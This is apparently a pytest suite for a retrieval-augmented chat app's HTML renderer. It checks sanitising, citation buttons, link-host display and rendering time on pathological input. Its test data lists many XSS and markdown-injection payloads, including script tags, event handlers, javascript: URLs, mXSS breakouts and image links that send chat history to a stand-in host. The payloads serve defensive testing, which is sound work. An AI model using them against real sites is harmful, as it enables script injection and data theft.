"""Answers as HTML: what a hostile text tries, and what is left of it."""

import re
import time
from html.parser import HTMLParser

import pytest

from rag_app.ui.chat.rendering import answer_html, plain_text

LABELS = {1: "handbook.pdf, page 3", 2: 'a"><script>alert(1)</script>.md'}
ALLOWED = set("p ul ol li table thead tbody tr th td code pre blockquote em strong s br hr a".split()) | {
    "h3", "h4", "h5", "h6", "button", "div", "span", "svg", "use",
}  # fmt: skip


class Elements(HTMLParser):
    """Every element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    return Elements(html).found


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a ping=https://evil.example href=https://evil.example>x</a>",
    "<div style=\"background:url('https://evil.example')\">x</div>",
    "![x](https://evil.example/?q=history)",
    "![x][ref]\n\n[ref]: https://evil.example/?q=history",
    "![](data:image/png;base64,AAAA)",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/api/auth/logout)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/<script>alert(1)</script>)",
    "[1]: https://evil.example\n\nSee [1].",
    "[1](https://evil.example)",
    "[see [1]](https://evil.example)",
    "[a[b[c[1]](javascript:x)](https://evil.example)](https://evil.example)",
    '```html onload=alert(1)"><script>\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&#xE000;1&#xE002; &#xE001;good.example&#xE002;",
    "\ue0001\ue002 \ue001good.example\ue002",
    "<https://evil.example/%EE%80%801%EE%80%82>",
    "<style>@import 'https://evil.example'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</div></div><form action=https://evil.example><button>x</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[2]",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("is_partial", [False, True])
def test_hostile_text_leaves_nothing_that_acts(text, is_partial):
    for tag, attributes in elements(answer_html(text, LABELS, is_partial=is_partial)):
        assert tag in ALLOWED
        assert not [name for name in attributes if name.startswith("on") or name in {"style", "src", "ping"}]
        if tag == "a" and "href" in attributes:
            assert re.match(r"https?://|mailto:", attributes["href"])
            assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer nofollow")
        if tag == "use":
            assert attributes == {"href": "/icons.svg#copy"}


@pytest.mark.parametrize("text", HOSTILE)
def test_every_beginning_of_hostile_text_is_safe_too(text):
    for end in range(len(text)):
        html = answer_html(text[:end], LABELS, is_partial=True)
        assert {tag for tag, _ in elements(html)} <= ALLOWED


def cites(text: str) -> list[str | None]:
    return [a["data-cite"] for tag, a in elements(answer_html(text, LABELS)) if "data-cite" in a]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("Yes [1].", ["1"], id="in a sentence"),
        pytest.param("Yes [1][2].", ["1", "2"], id="two in a row"),
        pytest.param("- a [1]\n- b **[2]**", ["1", "2"], id="in a list"),
        pytest.param("| a |\n|---|\n| b [1] |", ["1"], id="in a table"),
        pytest.param("# Title [1]", ["1"], id="in a heading"),
        pytest.param("`a[1]` and\n\n    b[1]\n", [], id="in code"),
        pytest.param("```\nx[1]\n```", [], id="in a fence"),
        pytest.param("No [3], [0] and [999].", [], id="of no passage"),
        pytest.param(r"\[1\]", [], id="escaped"),
        pytest.param("[1](https://evil.example)", ["1"], id="dressed up as a link"),
        pytest.param("[see [1]](https://evil.example)", ["1"], id="inside what would be a link"),
        pytest.param("![chart [1]](https://evil.example)", [], id="inside a picture"),
        pytest.param("[1]: https://evil.example\n\nSee [1].", ["1", "1"], id="defined as a reference"),
        pytest.param("&#xE000;1&#xE002;", [], id="forged with our characters"),
    ],
)
def test_citations(text, expected):
    assert cites(text) == expected


def test_citation_says_what_it_stands_for():
    [(_, attributes)] = [e for e in elements(answer_html("[1]", LABELS)) if e[0] == "button"]

    assert attributes["aria-label"] == "Source 1: handbook.pdf, page 3"


def test_name_of_a_document_cannot_leave_its_attribute():
    found = elements(answer_html("[2]", LABELS))

    assert [tag for tag, _ in found] == ["p", "button"]
    assert found[1][1]["aria-label"] == f"Source 2: {LABELS[2]}"


@pytest.mark.parametrize("text", HOSTILE)
def test_no_button_lies_inside_a_link(text):
    assert not re.search(r"<a [^>]*>(?:(?!</a>).)*<button", answer_html(text, LABELS), re.DOTALL)


def test_citations_of_a_growing_answer_cannot_be_pressed():
    assert "<button" not in answer_html("Yes [1]", LABELS, is_partial=True)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[our site](https://evil.example/login)", "(evil.example)"),
        ("[https://bank.example](https://evil.example)", "(evil.example)"),
        ("[x](https://bank.example@evil.example/)", "(evil.example)"),
        ("[write](mailto:ada@example.org)", "(ada@example.org)"),
    ],
)
def test_links_show_where_they_lead(text, shown):
    assert f'<span class="link-host">{shown}</span>' in answer_html(text, {})


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![a red chart](https://evil.example)", "a red chart"),
        ("![](https://evil.example)", ""),
        ("**bold** *em* ~~gone~~ `code`", "bold em gone code"),
        ("<b>5 < 6 & 7</b>", "&lt;b&gt;5 &lt; 6 &amp; 7&lt;/b&gt;"),
    ],
)
def test_words_that_are_left(text, shown):
    assert plain_text(answer_html(text, {})) == shown


def test_headings_stand_below_those_of_the_page():
    tags = [tag for tag, _ in elements(answer_html("# A\n\n## B\n\n###### C", {}))]

    assert tags == ["h3", "h4", "h6"]


@pytest.mark.parametrize(
    "unit",
    [
        pytest.param("[", id="brackets"),
        pytest.param("![", id="pictures"),
        pytest.param("*a_", id="emphasis"),
        pytest.param("`", id="ticks"),
        pytest.param("|a", id="cells"),
    ],
)
def test_text_made_to_take_long_takes_as_long_as_it_is(unit):
    """Eight times the text may not take sixty-four times the work, as if that grew with the square."""
    short, long = (least_work(unit * n) for n in (2_000, 16_000))

    assert long < 30 * short


def least_work(text: str) -> float:
    """Processor time to render a text; the least of a few tries, for others use the machine too."""
    answer_html(text, LABELS)
    tries = []
    for _ in range(3):
        started = time.process_time()
        answer_html(text, LABELS)
        tries.append(time.process_time() - started)
    return max(min(tries), 1e-4)


@pytest.mark.parametrize("text", ["> " * 5_000 + "x", "- " * 5_000], ids=["quotes", "lists"])
def test_deep_nesting_comes_to_an_end(text):
    assert answer_html(text, LABELS)
